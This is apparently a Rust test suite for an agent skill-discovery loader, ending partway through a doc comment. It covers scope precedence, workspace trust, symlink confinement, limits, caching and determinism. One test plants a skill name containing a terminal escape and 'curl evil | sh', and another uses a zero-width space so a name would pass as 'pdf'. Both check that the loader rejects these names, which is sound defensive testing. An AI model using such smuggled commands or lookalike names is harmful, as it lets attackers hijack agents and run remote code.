//! Discovery on real temporary trees: scopes and precedence, trust, symlinks, limits,
//! permissions, the cache, and determinism.

use std::path::{Path, PathBuf};

use skills_types::config::{Permission, PermissionRule, SymlinkPolicy};
use skills_types::{DiagnosticCode, SkillScope};

use super::*;
use crate::testing::Tree;

impl Tree {
    fn trust(&self) {
        trust::trust(&self.config(), &self.config().workspace).unwrap();
    }

    /// Writes `<root>/<relative>/SKILL.md` for a skill named `name`.
    fn skill(&self, root: &Path, relative: &str, name: &str) -> PathBuf {
        let dir = root.join(relative);
        std::fs::create_dir_all(&dir).unwrap();
        let file = dir.join("SKILL.md");
        std::fs::write(
            &file,
            format!(
                "---\nname: {name}\ndescription: {name} in {}\n---\nBody of {name}.\n",
                root.display()
            ),
        )
        .unwrap();
        file
    }

    fn user(&self) -> PathBuf {
        self.home.join(".openhuman/skills")
    }

    fn user_agents(&self) -> PathBuf {
        self.home.join(".agents/skills")
    }

    fn project(&self) -> PathBuf {
        self.workspace.join(".openhuman/skills")
    }

    fn project_agents(&self) -> PathBuf {
        self.workspace.join(".agents/skills")
    }

    fn project_claude(&self) -> PathBuf {
        self.workspace.join(".claude/skills")
    }

    fn legacy(&self) -> PathBuf {
        self.workspace.join("skills")
    }
}

fn names(catalog: &Catalog) -> Vec<(&str, SkillScope)> {
    catalog
        .skills
        .iter()
        .map(|skill| (skill.name.as_str(), skill.scope))
        .collect()
}

fn codes(catalog: &Catalog) -> Vec<DiagnosticCode> {
    catalog.diagnostics.iter().map(|d| d.code).collect()
}

#[test]
fn precedence_across_scopes() {
    let tree = Tree::new();
    tree.trust();
    tree.skill(&tree.legacy(), "a", "shared");
    tree.skill(&tree.user(), "a", "shared");
    tree.skill(&tree.project(), "a", "shared");
    tree.skill(&tree.legacy(), "l", "only-legacy");
    tree.skill(&tree.user(), "u", "only-user");
    let mut config = tree.config();
    config.profile = Some("dev".into());
    let profile_root = tree.workspace.join("personalities/dev/skills");
    tree.skill(&profile_root, "a", "shared");

    let catalog = discover(&config).unwrap();
    assert_eq!(
        names(&catalog),
        [
            ("only-legacy", SkillScope::Legacy),
            ("only-user", SkillScope::User),
            ("shared", SkillScope::Profile),
        ]
    );
    let winner = &catalog.skills[2];
    let lost: Vec<SkillScope> = winner.shadowed.iter().map(|copy| copy.scope).collect();
    assert_eq!(
        lost,
        [SkillScope::Project, SkillScope::User, SkillScope::Legacy]
    );
    assert!(
        winner
            .diagnostics
            .iter()
            .any(|d| d.code == DiagnosticCode::Shadowed)
    );
    assert_eq!(catalog.shadowed.len(), 3);

    // Without the profile, project beats user beats legacy.
    let catalog = discover(&tree.config()).unwrap();
    assert_eq!(catalog.skills[2].scope, SkillScope::Project);
}

#[test]
fn earlier_root_then_sorted_path_wins_within_a_scope() {
    let tree = Tree::new();
    tree.trust();
    tree.skill(&tree.project_claude(), "x", "dup");
    tree.skill(&tree.project_agents(), "x", "dup");
    tree.skill(&tree.project_agents(), "b-cat/z", "dup2");
    tree.skill(&tree.project_agents(), "a-cat/z", "dup2");
    let catalog = discover(&tree.config()).unwrap();
    let dup = catalog.skills.iter().find(|s| s.name == "dup").unwrap();
    assert!(dup.location.starts_with(tree.project_agents()));
    assert!(
        dup.shadowed[0].reason.contains("comes before"),
        "{}",
        dup.shadowed[0].reason
    );
    let dup2 = catalog.skills.iter().find(|s| s.name == "dup2").unwrap();
    assert!(dup2.dir.ends_with("a-cat/z"));
    assert!(
        dup2.shadowed[0].reason.contains("sorts before"),
        "{}",
        dup2.shadowed[0].reason
    );
}

#[test]
fn untrusted_workspace_skips_project_and_legacy_and_says_so() {
    let tree = Tree::new();
    tree.skill(&tree.project(), "p", "project-skill");
    tree.skill(&tree.legacy(), "l", "legacy-skill");
    tree.skill(&tree.user(), "u", "user-skill");
    let catalog = discover(&tree.config()).unwrap();
    assert!(!catalog.trusted);
    assert_eq!(names(&catalog), [("user-skill", SkillScope::User)]);
    assert_eq!(catalog.untrusted_roots.len(), 2);
    assert_eq!(codes(&catalog), [DiagnosticCode::UntrustedWorkspace]);

    tree.trust();
    let catalog = discover(&tree.config()).unwrap();
    assert!(catalog.trusted);
    assert_eq!(catalog.skills.len(), 3);
    assert!(catalog.untrusted_roots.is_empty());
}

#[cfg(unix)]
#[test]
fn symlinks_within_roots_load_once_and_outside_are_skipped() {
    use std::os::unix::fs::symlink;
    let tree = Tree::new();
    tree.trust();
    tree.skill(&tree.project_agents(), "x", "linked");
    std::fs::create_dir_all(tree.project_claude()).unwrap();
    symlink(
        tree.project_agents().join("x"),
        tree.project_claude().join("x"),
    )
    .unwrap();
    let outside = tree.home.parent().unwrap().join("outside");
    tree.skill(&outside, "evil", "evil");
    symlink(outside.join("evil"), tree.project_agents().join("evil")).unwrap();

    let catalog = discover(&tree.config()).unwrap();
    assert_eq!(names(&catalog), [("linked", SkillScope::Project)]);
    assert!(catalog.skills[0].shadowed.is_empty());
    assert!(codes(&catalog).contains(&DiagnosticCode::SymlinkOutsideRoots));
    assert!(codes(&catalog).contains(&DiagnosticCode::DuplicateDirectory));

    let mut always = tree.config();
    always.symlinks = SymlinkPolicy::Always;
    assert_eq!(discover(&always).unwrap().skills.len(), 2);

    let mut never = tree.config();
    never.symlinks = SymlinkPolicy::Never;
    let catalog = discover(&never).unwrap();
    assert_eq!(names(&catalog), [("linked", SkillScope::Project)]);
    assert!(
        catalog.skills[0]
            .location
            .starts_with(tree.project_agents())
    );
}

/// A definition file that is not a regular file is named for what it is, the exact `SKILL.md`
/// (probed) and a case variant (found in the listing) alike; a variant that is a symlink the
/// policy does not follow is noted like a symlinked `SKILL.md`.
#[cfg(unix)]
#[test]
fn definition_files_that_are_not_files_are_named_for_what_they_are() {
    let tree = Tree::new();
    let root = tree.user();
    tree.skill(&root, "good", "good");
    std::fs::create_dir_all(root.join("a-dir/SKILL.md")).unwrap();
    std::fs::create_dir_all(root.join("b-variant/skill.md")).unwrap();
    std::fs::create_dir_all(root.join("c-fifo")).unwrap();
    rustix::fs::mknodat(
        rustix::fs::CWD,
        root.join("c-fifo/Skill.md"),
        rustix::fs::FileType::Fifo,
        rustix::fs::Mode::from_raw_mode(0o600),
        0,
    )
    .unwrap();
    std::fs::create_dir_all(root.join("d-link")).unwrap();
    std::os::unix::fs::symlink(root.join("good/SKILL.md"), root.join("d-link/skill.md")).unwrap();
    let catalog = discover(&tree.config()).unwrap();
    assert_eq!(names(&catalog), [("good", SkillScope::User)]);
    let found: Vec<(DiagnosticCode, String)> = catalog
        .diagnostics
        .iter()
        .map(|d| (d.code, d.message.clone()))
        .collect();
    assert_eq!(
        found,
        [
            (
                DiagnosticCode::NotAFile,
                "`SKILL.md` is a directory, not a file; the folder is skipped".to_owned()
            ),
            (
                DiagnosticCode::NotAFile,
                "`skill.md` is a directory, not a file; the folder is skipped".to_owned()
            ),
            (
                DiagnosticCode::NotAFile,
                "`Skill.md` is a FIFO, not a regular file; the folder is skipped".to_owned()
            ),
            (
                DiagnosticCode::SymlinkSkipped,
                "the definition file is a symlink; it is read only with the `always` symlink policy"
                    .to_owned()
            ),
        ]
    );
}

/// The user's own links (`ln -s ~/dev/my-skill ~/.agents/skills/`) are followed wherever they
/// point; a link met below one of them, and every link of a workspace that leaves the
/// workspace's roots (into the home too), is not.
#[cfg(unix)]
#[test]
fn user_links_are_followed_and_workspace_links_stay_within_its_roots() {
    use std::os::unix::fs::symlink;
    let tree = Tree::new();
    tree.trust();
    let dev = tree.home.join("dev");
    tree.skill(&dev, "my-skill", "mine");
    tree.skill(&dev, "collection/one", "one");
    tree.skill(&dev, "collection/two", "two");
    std::fs::create_dir_all(tree.user_agents()).unwrap();
    std::fs::create_dir_all(tree.user()).unwrap();
    symlink(dev.join("my-skill"), tree.user_agents().join("my-skill")).unwrap();
    // A second link to the same checkout, and a category link: loaded once, walked.
    symlink(dev.join("my-skill"), tree.user().join("again")).unwrap();
    symlink(
        dev.join("collection"),
        tree.user_agents().join("collection"),
    )
    .unwrap();
    // Inside the linked checkout, a link of someone else's leading further out: not the
    // user's own link, so the old rule holds.
    let elsewhere = tree.workspace.parent().unwrap().join("elsewhere");
    tree.skill(&elsewhere, "planted", "planted");
    symlink(elsewhere.join("planted"), dev.join("collection/planted")).unwrap();
    // The workspace links into the home and out of itself: both refused.
    tree.skill(&tree.user_agents(), "private", "private");
    std::fs::create_dir_all(tree.project_agents()).unwrap();
    symlink(
        tree.user_agents().join("private"),
        tree.project_agents().join("stolen"),
    )
    .unwrap();
    symlink(elsewhere.join("planted"), tree.project_agents().join("out")).unwrap();

    let catalog = discover(&tree.config()).unwrap();
    assert_eq!(
        names(&catalog),
        [
            ("mine", SkillScope::User),
            ("one", SkillScope::User),
            ("private", SkillScope::User),
            ("two", SkillScope::User),
        ]
    );
    assert!(catalog.shadowed.is_empty(), "{:?}", catalog.shadowed);
    let mine = &catalog.skills[0];
    // Found through the user's `.openhuman` root first (it precedes `.agents`).
    assert_eq!(mine.dir, tree.user().join("again"));
    let refused: Vec<PathBuf> = catalog
        .diagnostics
        .iter()
        .filter(|d| d.code == DiagnosticCode::SymlinkOutsideRoots)
        .filter_map(|d| d.path.clone())
        .collect();
    assert_eq!(
        refused,
        [
            tree.project_agents().join("out"),
            tree.project_agents().join("stolen"),
            tree.user_agents().join("collection/planted"),
        ]
    );
    assert_eq!(
        codes(&catalog)
            .iter()
            .filter(|code| **code == DiagnosticCode::DuplicateDirectory)
            .count(),
        1
    );

    // A link of the user's that loops back into its own root ends at the repeat.
    symlink(tree.user_agents(), tree.user_agents().join("loop")).unwrap();
    symlink(&dev, dev.join("collection/back")).unwrap();
    let looped = discover(&tree.config()).unwrap();
    assert_eq!(names(&looped), names(&catalog));
}

/// A skill reached through the user's link is cached by the path through the link, and the
/// cache notices what changes in the target folder: the folder's stamp is the target's.
#[cfg(unix)]
#[test]
fn the_cache_follows_a_symlinked_skill_folder() {
    use std::os::unix::fs::symlink;
    let tree = Tree::new();
    let dev = tree.home.join("dev");
    tree.skill(&dev, "my-skill", "mine");
    tree.skill(&dev, "other", "other");
    std::fs::create_dir_all(tree.user()).unwrap();
    let link = tree.user().join("my-skill");
    symlink(dev.join("my-skill"), &link).unwrap();
    let mut config = tree.config();
    config.cache = true;
    let mut uncached = tree.config();
    uncached.cache = false;
    let cold = discover(&config).unwrap();
    assert_eq!(names(&cold), [("mine", SkillScope::User)]);
    assert_eq!(discover(&config).unwrap(), cold);

    // A side file appears in the target folder: noticed.
    std::fs::write(
        dev.join("my-skill/skill.toml"),
        "when_to_use = 'When linked.'\n",
    )
    .unwrap();
    let warm = discover(&config).unwrap();
    assert_eq!(warm.skills[0].when_to_use.as_deref(), Some("When linked."));
    assert_eq!(warm, discover(&uncached).unwrap());

    // The link is pointed at another checkout: the other skill, not the cached one.
    std::fs::remove_file(&link).unwrap();
    symlink(dev.join("other"), &link).unwrap();
    let moved = discover(&config).unwrap();
    assert_eq!(names(&moved), [("other", SkillScope::User)]);
    assert_eq!(moved, discover(&uncached).unwrap());
}

#[cfg(unix)]
#[test]
fn symlink_loops_terminate() {
    use std::os::unix::fs::symlink;
    let tree = Tree::new();
    let root = tree.user();
    std::fs::create_dir_all(root.join("cat")).unwrap();
    symlink(&root, root.join("cat/loop")).unwrap();
    symlink(root.join("cat"), root.join("cat/self")).unwrap();
    tree.skill(&root, "cat/real", "real");
    let mut config = tree.config();
    config.symlinks = SymlinkPolicy::Always;
    let catalog = discover(&config).unwrap();
    assert_eq!(names(&catalog), [("real", SkillScope::User)]);
}

#[test]
fn malformed_skills_never_hide_good_ones() {
    let tree = Tree::new();
    let root = tree.user();
    for index in 0..200 {
        let dir = root.join(format!("bad-{index:03}"));
        std::fs::create_dir_all(&dir).unwrap();
        let text = match index % 4 {
            0 => "---\nname: x\n".to_owned(),
            1 => "---\nname: [unclosed\n---\n".to_owned(),
            2 => "\u{0}\u{ff}".to_owned(),
            _ => String::new(),
        };
        std::fs::write(dir.join("SKILL.md"), text).unwrap();
    }
    std::fs::write(root.join("bad-002/SKILL.md"), [0xff, 0xfe]).unwrap();
    tree.skill(&root, "good", "good");
    let catalog = discover(&tree.config()).unwrap();
    assert!(catalog.skills.iter().any(|skill| skill.name == "good"));
    assert!(codes(&catalog).contains(&DiagnosticCode::UnterminatedFrontmatter));
    assert!(codes(&catalog).contains(&DiagnosticCode::NotUtf8));
}

#[test]
fn limits_are_diagnostics() {
    let tree = Tree::new();
    let root = tree.user();
    tree.skill(&root, "a/b/c/d/e/f/deep", "too-deep");
    tree.skill(&root, "a/b/c/d/e/ok", "deep-enough");
    let catalog = discover(&tree.config()).unwrap();
    assert_eq!(names(&catalog), [("deep-enough", SkillScope::User)]);
    assert!(codes(&catalog).contains(&DiagnosticCode::DepthLimit));

    let mut config = tree.config();
    config.limits.max_dirs_per_root = 3;
    let catalog = discover(&config).unwrap();
    assert!(codes(&catalog).contains(&DiagnosticCode::DirectoryLimit));
}

/// Many category folders: the walk lists them ahead of its sequential pass, in windows, and
/// must still apply the limits, the duplicates and the diagnostics in scan order.
#[test]
fn categories_read_ahead_keep_the_sequential_rules() {
    use std::os::unix::ffi::OsStrExt;
    use std::os::unix::fs::symlink;
    let tree = Tree::new();
    let root = tree.user();
    for category in 0..45 {
        for skill in 0..3 {
            let name = format!("c{category:02}-s{skill}");
            tree.skill(&root, &format!("cat-{category:02}/{name}"), &name);
        }
    }
    // A folder whose name is not UTF-8, inside a category that is read ahead.
    let odd = root
        .join("cat-07")
        .join(std::ffi::OsStr::from_bytes(b"bad-\xff"));
    std::fs::create_dir_all(&odd).unwrap();
    // A later category that is a link to an earlier one: loaded once.
    symlink(root.join("cat-03"), root.join("cat-40-link")).unwrap();

    let catalog = discover(&tree.config()).unwrap();
    assert_eq!(catalog.skills.len(), 45 * 3);
    let listed: Vec<&str> = catalog.skills.iter().map(|s| s.name.as_str()).collect();
    let mut sorted = listed.clone();
    sorted.sort_unstable();
    assert_eq!(listed, sorted);
    let odd_names: Vec<_> = catalog
        .diagnostics
        .iter()
        .filter(|d| d.code == DiagnosticCode::Unreadable)
        .map(|d| d.path.clone().unwrap())
        .collect();
    assert_eq!(odd_names, [odd]);
    let duplicates = catalog
        .diagnostics
        .iter()
        .filter(|d| d.code == DiagnosticCode::DuplicateDirectory)
        .count();
    assert_eq!(duplicates, 1);

    // The directory limit counts folders in scan order, read ahead or not: ten categories.
    let mut config = tree.config();
    config.limits.max_dirs_per_root = 10;
    let limited = discover(&config).unwrap();
    let expected: Vec<String> = (0..10)
        .flat_map(|category| (0..3).map(move |skill| format!("c{category:02}-s{skill}")))
        .collect();
    let names: Vec<&str> = limited.skills.iter().map(|s| s.name.as_str()).collect();
    assert_eq!(names, expected);
    assert_eq!(
        codes(&limited)
            .iter()
            .filter(|c| **c == DiagnosticCode::DirectoryLimit)
            .count(),
        1
    );
}

#[test]
fn excluded_and_hidden_folders_are_not_scanned() {
    let tree = Tree::new();
    let root = tree.user();
    for folder in [
        "node_modules/x",
        ".git/x",
        ".hidden/x",
        "target/x",
        "__pycache__/x",
    ] {
        tree.skill(&root, folder, "excluded");
    }
    tree.skill(&root, "visible", "visible");
    tree.skill(&root, "visible/nested", "nested-in-a-skill");
    let catalog = discover(&tree.config()).unwrap();
    assert_eq!(names(&catalog), [("visible", SkillScope::User)]);
}

#[test]
fn permissions_and_disabled() {
    let tree = Tree::new();
    for name in ["alpha", "beta", "gamma", "delta"] {
        tree.skill(&tree.user(), name, name);
    }
    let mut config = tree.config();
    config.permissions = vec![
        PermissionRule {
            pattern: "*".into(),
            permission: Permission::Ask,
        },
        PermissionRule {
            pattern: "b*".into(),
            permission: Permission::Deny,
        },
        PermissionRule {
            pattern: "alpha".into(),
            permission: Permission::Allow,
        },
    ];
    config.disabled = vec!["gamma".into()];
    let catalog = discover(&config).unwrap();
    let visible: Vec<(&str, Permission)> = catalog
        .skills
        .iter()
        .map(|skill| (skill.name.as_str(), skill.permission))
        .collect();
    assert_eq!(
        visible,
        [("alpha", Permission::Allow), ("delta", Permission::Ask)]
    );
    let hidden: Vec<&str> = catalog.hidden.iter().map(|h| h.name.as_str()).collect();
    assert_eq!(hidden, ["beta", "gamma"]);
}

#[test]
fn sidecars_and_manifest() {
    let tree = Tree::new();
    let dir = tree.user().join("release");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("SKILL.md"), "# Release\n\nShips a release.\n").unwrap();
    std::fs::write(
        dir.join("skill.toml"),
        "when_to_use = 'When shipping.'\n[[inputs]]\nname = 'version'\nrequired = true\n",
    )
    .unwrap();
    std::fs::write(
        dir.join("skill.json"),
        r#"{"name": "release-manager", "version": "3"}"#,
    )
    .unwrap();
    let catalog = discover(&tree.config()).unwrap();
    let skill = &catalog.skills[0];
    assert_eq!(skill.name, "release-manager");
    assert_eq!(skill.id, "release");
    assert_eq!(skill.description, "Ships a release.");
    assert_eq!(skill.when_to_use.as_deref(), Some("When shipping."));
    assert_eq!(skill.inputs[0].name, "version");
    assert_eq!(skill.frontmatter.metadata["version"], "3");
}

/// What the sidecar gives the catalog (typed inputs, defaults, and the diagnostics of a key
/// that was wrong) comes back from the cache as it went in.
#[test]
fn typed_inputs_and_sidecar_diagnostics_survive_the_cache() {
    let tree = Tree::new();
    let dir = tree.user().join("release");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("SKILL.md"), "# Release\n\nShips a release.\n").unwrap();
    std::fs::write(
        dir.join("skill.toml"),
        "when_to_use = 'When shipping.'\nwhen_to_sue = 1\n[[inputs]]\nname = 'count'\ntype = 'number'\ndefault = 2.5\n[[inputs]]\nname = 'options'\ntype = 'json'\ndefault = { a = [1, 'b'] }\n",
    )
    .unwrap();
    let mut config = tree.config();
    config.cache = true;
    let cold = discover(&config).unwrap();
    let warm = discover(&config).unwrap();
    assert_eq!(cold, warm);
    let skill = &warm.skills[0];
    assert_eq!(skill.when_to_use.as_deref(), Some("When shipping."));
    assert_eq!(skill.inputs[0].kind, skills_types::run::InputType::Number);
    assert_eq!(skill.inputs[0].default, Some(serde_json::json!(2.5)));
    assert_eq!(skill.inputs[1].kind, skills_types::run::InputType::Json);
    assert_eq!(
        skill.inputs[1].default,
        Some(serde_json::json!({"a": [1, "b"]}))
    );
    assert!(
        skill.diagnostics.iter().any(
            |d| d.code == DiagnosticCode::InvalidSidecar && d.message.contains("`when_to_sue`")
        ),
        "{:?}",
        skill.diagnostics
    );
}

#[test]
fn the_manifest_is_read_from_the_first_sidecar_that_is_a_file() {
    let tree = Tree::new();
    let dir = tree.user().join("flow");
    std::fs::create_dir_all(&dir).unwrap();
    assert_eq!(
        read_skill_manifest(&dir),
        (skills_types::run::SkillManifest::default(), Vec::new())
    );
    std::fs::write(
        dir.join("workflow.toml"),
        "entry = 'scripts/run.sh'\nbogus = 1\n",
    )
    .unwrap();
    let (manifest, diagnostics) = read_skill_manifest(&dir);
    assert_eq!(manifest.entry.as_deref(), Some("scripts/run.sh"));
    assert_eq!(diagnostics.len(), 1);
    assert_eq!(
        diagnostics[0].path.as_deref(),
        Some(dir.join("workflow.toml").as_path())
    );
    // A `skill.toml` wins over `workflow.toml`, as discovery has it; a link is not followed.
    #[cfg(unix)]
    {
        std::fs::write(tree.home.join("elsewhere.toml"), "entry = 'x.py'\n").unwrap();
        std::os::unix::fs::symlink(tree.home.join("elsewhere.toml"), dir.join("skill.toml"))
            .unwrap();
        assert_eq!(
            read_skill_manifest(&dir).0.entry.as_deref(),
            Some("scripts/run.sh")
        );
        std::fs::remove_file(dir.join("skill.toml")).unwrap();
    }
    std::fs::write(dir.join("skill.toml"), "entry = 'main.py'\n").unwrap();
    assert_eq!(
        read_skill_manifest(&dir).0.entry.as_deref(),
        Some("main.py")
    );
}

/// The loader looks up a skill's side files below its parent's handle (`<id>/skill.toml`):
/// they are found for skills in categories read ahead of the walk, in a large folder probed in
/// parallel, and through a followed symlink, and match what the skill folder itself holds.
#[cfg(unix)]
#[test]
fn side_files_are_found_below_the_parent_handle() {
    let tree = Tree::new();
    // Two categories, so they are listed ahead of the sequential pass.
    for category in ["cat-a", "cat-b"] {
        let definition = tree.skill(
            &tree.user(),
            &format!("{category}/inner"),
            &format!("{category}-inner"),
        );
        std::fs::write(
            definition.with_file_name("workflow.toml"),
            format!("when_to_use = 'When {category}.'\n"),
        )
        .unwrap();
    }
    // Enough siblings that their probes run in parallel.
    for index in 0..70 {
        tree.skill(
            &tree.user(),
            &format!("many-{index:02}"),
            &format!("many-{index:02}"),
        );
    }
    std::fs::write(
        tree.user().join("many-42/skill.json"),
        r#"{"version": "7"}"#,
    )
    .unwrap();
    // A skill checked out elsewhere, linked into the user's root.
    let elsewhere = tree.home.join("dev/linked");
    tree.skill(&tree.home.join("dev"), "linked", "linked");
    std::fs::write(
        elsewhere.join("skill.toml"),
        "when_to_use = 'When linked.'\n",
    )
    .unwrap();
    std::os::unix::fs::symlink(&elsewhere, tree.user().join("linked")).unwrap();

    let catalog = discover(&tree.config()).unwrap();
    let skill = |name: &str| catalog.skills.iter().find(|s| s.name == name).unwrap();
    assert_eq!(
        skill("cat-a-inner").when_to_use.as_deref(),
        Some("When cat-a.")
    );
    assert_eq!(
        skill("cat-b-inner").when_to_use.as_deref(),
        Some("When cat-b.")
    );
    assert_eq!(skill("many-42").frontmatter.metadata["version"], "7");
    assert!(
        !skill("many-41")
            .frontmatter
            .metadata
            .contains_key("version")
    );
    assert_eq!(skill("linked").when_to_use.as_deref(), Some("When linked."));
    assert_eq!(catalog.skills.len(), 73);
}

#[test]
fn the_cache_gives_the_same_catalog_and_notices_edits() {
    let tree = Tree::new();
    for index in 0..20 {
        tree.skill(
            &tree.user(),
            &format!("s{index:02}"),
            &format!("skill-{index:02}"),
        );
    }
    let mut config = tree.config();
    config.cache = true;
    let cold = discover(&config).unwrap();
    let cache_dir = tree.home.join(".openhuman/cache");
    assert!(std::fs::read_dir(&cache_dir).unwrap().next().is_some());
    let warm = discover(&config).unwrap();
    assert_eq!(cold, warm);

    // An edit that keeps the size is still noticed (the change time moves).
    let file = tree.user().join("s03/SKILL.md");
    let text = std::fs::read_to_string(&file)
        .unwrap()
        .replace("skill-03", "skill-3x");
    std::fs::write(&file, text).unwrap();
    let edited = discover(&config).unwrap();
    assert!(edited.skills.iter().any(|skill| skill.name == "skill-3x"));
    let mut uncached = tree.config();
    uncached.cache = false;
    assert_eq!(edited, discover(&uncached).unwrap());

    // Skills added before and removed after the cached ones move every entry's position: the
    // lookup by path still finds the unchanged ones, and the new ones are parsed.
    tree.skill(&tree.user(), "a-first", "a-first");
    std::fs::remove_dir_all(tree.user().join("s05")).unwrap();
    // A side file appearing beside a cached skill is noticed (its folder's stamp moves).
    std::fs::write(
        tree.user().join("s07/skill.toml"),
        "when_to_use = 'When testing.'\n",
    )
    .unwrap();
    let moved = discover(&config).unwrap();
    assert_eq!(moved, discover(&uncached).unwrap());
    assert_eq!(moved.skills.len(), 20);
    assert_eq!(moved.skills[0].name, "a-first");
    let seventh = moved.skills.iter().find(|s| s.name == "skill-07").unwrap();
    assert_eq!(seventh.when_to_use.as_deref(), Some("When testing."));
    // And the rewritten cache serves the next run the same catalog.
    assert_eq!(discover(&config).unwrap(), moved);

    // A truncated cache (a chunk cut short) is a miss, not an error.
    for entry in std::fs::read_dir(&cache_dir).unwrap() {
        let path = entry.unwrap().path();
        let bytes = std::fs::read(&path).unwrap();
        std::fs::write(&path, &bytes[..bytes.len() - 7]).unwrap();
    }
    assert_eq!(discover(&config).unwrap(), moved);

    // A corrupt cache is a miss, not an error.
    for entry in std::fs::read_dir(&cache_dir).unwrap() {
        std::fs::write(entry.unwrap().path(), b"garbage").unwrap();
    }
    assert_eq!(discover(&config).unwrap(), moved);
}

#[test]
fn output_is_identical_across_runs_and_creation_orders() {
    let build = |order: &[usize]| {
        let tree = Tree::new();
        tree.trust();
        for &index in order {
            let root = if index % 3 == 0 {
                tree.project_agents()
            } else {
                tree.user_agents()
            };
            tree.skill(
                &root,
                &format!("cat-{}/s{index}", index % 4),
                &format!("skill-{}", index % 7),
            );
        }
        let catalog = discover(&tree.config()).unwrap();
        // Compare everything but the temporary paths.
        serde_json::to_string(&catalog)
            .unwrap()
            .replace(&tree.home.parent().unwrap().display().to_string(), "<tmp>")
    };
    let forward: Vec<usize> = (0..30).collect();
    let reversed: Vec<usize> = (0..30).rev().collect();
    let shuffled: Vec<usize> = (0..30).map(|i| (i * 17) % 30).collect();
    let first = build(&forward);
    assert_eq!(first, build(&reversed));
    assert_eq!(first, build(&shuffled));
}

#[test]
fn permute_puts_every_item_where_the_order_says() {
    // Every permutation of five positions, against a copy made the plain way.
    fn permutations(items: Vec<usize>) -> Vec<Vec<usize>> {
        if items.len() <= 1 {
            return vec![items];
        }
        let mut all = Vec::new();
        for index in 0..items.len() {
            let mut rest = items.clone();
            let first = rest.remove(index);
            for mut tail in permutations(rest) {
                tail.insert(0, first);
                all.push(tail);
            }
        }
        all
    }
    for order in permutations((0..5).collect()) {
        let items: Vec<String> = (0..5).map(|index| format!("item-{index}")).collect();
        let expected: Vec<String> = order.iter().map(|index| items[*index].clone()).collect();
        let mut permuted = items.clone();
        permute(&mut permuted, order.clone());
        assert_eq!(permuted, expected, "order {order:?}");
    }
}

/// The same tree discovered on one thread and on many gives the same catalog, byte for byte:
/// order, shadowing, duplicates and every diagnostic are decided by the sequential rules, never
/// by which thread finished first. The tree is big enough (over the parallel-probe threshold)
/// for every parallel step to really run in parallel.
#[test]
fn parallel_discovery_gives_the_sequential_catalog() {
    use std::os::unix::fs::symlink;
    let tree = Tree::new();
    tree.trust();
    for index in 0..150 {
        let name = format!("skill-{:03}", index % 90);
        tree.skill(&tree.user(), &format!("s{index:03}"), &name);
        if index % 3 == 0 {
            // The same names in the project scope shadow the user's copies.
            tree.skill(&tree.project_agents(), &format!("p{index:03}"), &name);
        }
    }
    for index in 0..40 {
        let dir = tree.user_agents().join(format!("bad-{index:02}"));
        std::fs::create_dir_all(&dir).unwrap();
        let text: &[u8] = match index % 5 {
            0 => b"---\nname: x\n",
            1 => b"---\nname: [unclosed\n---\n",
            2 => b"\xff\xfe",
            3 => b"---\nname: a\nname: b\n---\n",
            _ => b"---\nname: ok-but: odd\ndescription: |\n  folded\n---\n",
        };
        std::fs::write(dir.join("SKILL.md"), text).unwrap();
    }
    // A link to a folder also reached directly: a duplicate, reported once.
    symlink(tree.user().join("s001"), tree.user().join("z-link")).unwrap();

    let on = |threads: usize, cache: bool| {
        let mut config = tree.config();
        config.cache = cache;
        let pool = rayon::ThreadPoolBuilder::new()
            .num_threads(threads)
            .build()
            .unwrap();
        pool.install(|| discover(&config).unwrap())
    };
    let sequential = on(1, false);
    assert!(
        sequential.shadowed.len() >= 50,
        "{}",
        sequential.shadowed.len()
    );
    assert!(codes(&sequential).contains(&DiagnosticCode::DuplicateDirectory));
    assert!(codes(&sequential).contains(&DiagnosticCode::NotUtf8));
    for threads in [2, 4, 8] {
        assert_eq!(
            on(threads, false),
            sequential,
            "{threads} threads, no cache"
        );
    }
    // Written by a parallel run, read by the sequential one and the other way round.
    assert_eq!(on(8, true), sequential);
    assert_eq!(on(1, true), sequential);
    assert_eq!(on(4, true), sequential);
}

#[test]
fn a_name_an_agent_cannot_be_shown_gives_way_to_the_folder_name() {
    let tree = Tree::new();
    tree.skill(&tree.user(), "pdf", "pdf");
    let write = |folder: &str, name: &str| {
        let dir = tree.user().join(folder);
        std::fs::create_dir_all(&dir).unwrap();
        let text = format!("---\nname: {name}\ndescription: Something.\n---\nBody.\n");
        std::fs::write(dir.join("SKILL.md"), text).unwrap();
    };
    // Shown through the sanitiser this would read `pdf`: it would speak for the real one.
    write("evil", "\"pdf\\u200B\"");
    write("x", "\"x\\e]0;owned\\a; curl evil | sh\"");
    // Neither name nor folder can be shown: nothing an agent could call it by.
    write("a\u{202e}b", "\"c\\u200Bd\"");
    for cache in [false, true, true] {
        let mut config = tree.config();
        config.cache = cache;
        let catalog = discover(&config).unwrap();
        assert_eq!(
            names(&catalog),
            [
                ("evil", SkillScope::User),
                ("pdf", SkillScope::User),
                ("x", SkillScope::User)
            ],
            "cache: {cache}"
        );
        for id in ["evil", "x"] {
            let skill = catalog.skills.iter().find(|skill| skill.id == id).unwrap();
            assert!(
                skill
                    .diagnostics
                    .iter()
                    .any(|d| d.code == DiagnosticCode::NameUnshowable),
                "{:?}",
                skill.diagnostics
            );
        }
        assert!(
            codes(&catalog).contains(&DiagnosticCode::NameUnshowable),
            "{:?}",
            catalog.diagnostics
        );
    }
}

/// The limits bound a walk however its folders are reached: a link counts its target's levels
/// from the root (not from the link), and every folder listed through it counts against the
/// root's budget.
#[test]
fn limits_bound_what_a_link_leads_to() {
    use std::os::unix::fs::symlink;
    let tree = Tree::new();
    let root = tree.user();
    let deep = tree.home.join("deep");
    tree.skill(&deep, "a/b/c/d/e/too-deep", "too-deep");
    tree.skill(&deep, "a/b/c/d/in-reach", "in-reach");
    std::fs::create_dir_all(&root).unwrap();
    // One level down already: `link/a/b/c/d/in-reach` is six levels below the root.
    symlink(&deep, root.join("link")).unwrap();
    let catalog = discover(&tree.config()).unwrap();
    assert_eq!(names(&catalog), [("in-reach", SkillScope::User)]);
    assert!(codes(&catalog).contains(&DiagnosticCode::DepthLimit));

    // A link to a tree of many folders spends the root's budget like the root's own.
    let wide = tree.folders_without_skills("wide", 30, "");
    std::fs::remove_file(root.join("link")).unwrap();
    symlink(&wide, root.join("link")).unwrap();
    let mut config = tree.config();
    config.limits.max_dirs_per_root = 10;
    let catalog = discover(&config).unwrap();
    assert!(codes(&catalog).contains(&DiagnosticCode::DirectoryLimit));
}

/// A root that led to no skill before a limit cut its walk short (a link to `/usr`, a home
/// folder) is said to be no folder of skills, once, naming where it leads; a root that holds
